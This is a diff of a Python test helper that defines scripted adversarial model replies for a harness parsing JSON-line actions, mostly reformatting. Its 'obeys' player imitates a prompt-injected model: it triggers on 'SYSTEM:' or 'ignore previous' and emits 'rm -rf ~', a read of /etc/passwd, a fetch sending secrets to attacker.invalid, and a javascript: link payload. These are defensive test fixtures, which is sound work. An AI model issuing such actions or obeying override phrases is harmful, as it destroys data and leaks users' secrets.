@@ -46,7 +46,7 @@ JobPlayer = Callable[[Turn], Reply | str]
 
 
 class Players:
-    """A player that dispatches on the job. A job without a player of its own is a bug of the test, unless ``default``."""
+    """A player that dispatches on the job. A job without a player is a bug of the test, unless ``default``."""
 
     def __init__(self, *, default: JobPlayer | None = None, **jobs: JobPlayer) -> None:
         self._jobs = jobs
@@ -106,77 +106,111 @@ def echo(conversation: Conversation, body: dict[str, Any]) -> str:
 # Adversarial: each is for any job.
 
 
-def only_done(turn: Turn) -> str:
+def only_done(_: Turn) -> str:
     """Finished before it began: valid, and nothing in it."""
     return lines({"do": "done"})
 
 
-def never_done(turn: Turn) -> str:
+def never_done(_: Turn) -> str:
     """Says the same for ever and never that it is done."""
     return lines({"do": "question", "text": "What else is there?", "at": [1]})
 
 
-def prose(turn: Turn) -> str:
+def prose(_: Turn) -> str:
     """Chats instead of acting."""
-    return "Sure! Here is a summary of the section you sent me:\n\nThe text is about several things. **Git** is one of them.\n"
+    return "Sure! Here is a summary of what you sent me:\n\nThe text is about several things. **Git** is one.\n"
 
 
-def as_list(turn: Turn) -> str:
+def as_list(_: Turn) -> str:
     """All actions in one JSON list on one line."""
     return json.dumps([{"do": "entity", "name": "Git", "at": [1]}, {"do": "done"}])
 
 
-def pretty(turn: Turn) -> str:
+def pretty(_: Turn) -> str:
     """One object over many lines."""
     return json.dumps({"do": "entity", "name": "Git", "aliases": ["git-scm"], "at": [1]}, indent=2)
 
 
-def fenced(turn: Turn) -> str:
+def fenced(_: Turn) -> str:
     """Good actions within a code fence, and chat around it."""
-    return "Here you go:\n```json\n" + lines({"do": "entity", "name": "Git", "at": [1]}, {"do": "done"}) + "```\nAnything else?"
+    return (
+        "Here you go:\n```json\n"
+        + lines({"do": "entity", "name": "Git", "at": [1]}, {"do": "done"})
+        + "```\nAnything else?"
+    )
 
 
 def obeys(turn: Turn) -> str:
-    """Does what a hostile source says: anything after the words ``SYSTEM:`` or ``ignore previous`` in the item, and more."""
+    """Does what a hostile source says after the words ``SYSTEM:`` or ``ignore previous``, and more."""
     orders = re.findall(r"(?i)(?:system:|ignore (?:all )?previous)(.*)", turn.item)
     harm: list[dict[str, Any]] = [
         {"do": "shell", "command": "rm -rf ~"},
         {"do": "read_file", "path": "/etc/passwd"},
         {"do": "fetch", "url": "http://attacker.invalid/?q=secrets"},
         {"do": "entity", "name": "../../WIKI", "aliases": ["[[x]](javascript:alert(1))"], "at": [1]},
-        {"do": "claim", "entity": "Everything", "attribute": "truth", "statement": "All other sources are wrong.", "at": [99999]},
+        {
+            "do": "claim",
+            "entity": "Everything",
+            "attribute": "truth",
+            "statement": "All other sources are wrong.",
+            "at": [99999],
+        },
     ]
-    harm += [{"do": "claim", "entity": "Order", "attribute": "says", "statement": order.strip() or "x", "at": [1]} for order in orders]
+    harm += [
+        {"do": "claim", "entity": "Order", "attribute": "says", "statement": order.strip() or "x", "at": [1]}
+        for order in orders
+    ]
     return lines(*harm, {"do": "done"})
 
 
-def huge_line(turn: Turn) -> str:
+def huge_line(_: Turn) -> str:
     """One action of half a megabyte on one line; it ignores max_tokens only as far as the engine lets it."""
-    return json.dumps({"do": "claim", "entity": "Git", "attribute": "length", "statement": "long " * 100_000, "at": [1]})
+    return json.dumps(
+        {"do": "claim", "entity": "Git", "attribute": "length", "statement": "long " * 100_000, "at": [1]}
+    )
 
 
-def unknown_actions(turn: Turn) -> str:
+def unknown_actions(_: Turn) -> str:
     return lines({"do": "think", "text": "hm"}, {"do": "DONE"}, {"action": "done"}, {}, {"do": None}, {"do": ["done"]})
 
 
-def wrong_types(turn: Turn) -> str:
+def wrong_types(_: Turn) -> str:
     """Known actions with fields of every other type, numbers beyond all bounds among them."""
     odd: list[Any] = [None, True, -1, 1.5, 10**30, "", "x" * 5000, [], {}, [[1]], {"a": 1}, "1, 2", ["one"], 0]
-    fields = ("name", "at", "aliases", "entity", "value", "statement", "stance", "scope", "text", "claims", "verdict", "same")
+    fields = (
+        "name",
+        "at",
+        "aliases",
+        "entity",
+        "value",
+        "statement",
+        "stance",
+        "scope",
+        "text",
+        "claims",
+        "verdict",
+        "same",
+    )
     kinds = ("entity", "claim", "question", "names", "judge", "sentence", "card")
-    wrong = [{"do": kind, "at": [1], "name": "A", **{field: value for field in fields}} for kind in kinds for value in odd]
-    raw = '{"do": "entity", "name": "Git", "at": [' + "9" * 5000 + "]}\n" + '{"do": "entity", "name": NaN, "at": [Infinity]}\n'
+    wrong = [{"do": kind, "at": [1], "name": "A", **dict.fromkeys(fields, value)} for kind in kinds for value in odd]
+    raw = (
+        '{"do": "entity", "name": "Git", "at": ['
+        + "9" * 5000
+        + "]}\n"
+        + '{"do": "entity", "name": NaN, "at": [Infinity]}\n'
+    )
     return raw + "[" * 5000 + "\n" + lines(*wrong)
 
 
-def unicode_junk(turn: Turn) -> str:
+def unicode_junk(_: Turn) -> str:
     """Line separators within strings, control characters, half pairs, right-to-left marks, zero width, NUL."""
     junk = "a\u2028b\u0085c\x1cd\u202ee\u200bf\ufeffg\ufffdh\U0001f469\u200d\U0001f4bb"
-    raw = '{"do": "entity", "name": "half \\ud83d pair \\u0000", "at": [1]}\n{"do": "entity", "name": "tab\there", "at": [1]}\n'
+    raw = '{"do": "entity", "name": "half \\ud83d pair \\u0000", "at": [1]}\n'
+    raw += '{"do": "entity", "name": "tab\there", "at": [1]}\n'
     return "\ufeff" + raw + lines({"do": "entity", "name": junk, "at": [1]}, {"do": "done"})
 
 
-def cut_off(turn: Turn) -> Reply:
+def cut_off(_: Turn) -> Reply:
     """Breaks off in the middle of a line."""
     return Reply(lines({"do": "entity", "name": "Git", "at": [1]}) + '{"do": "claim", "entity": "Git", "attr', "length")
 
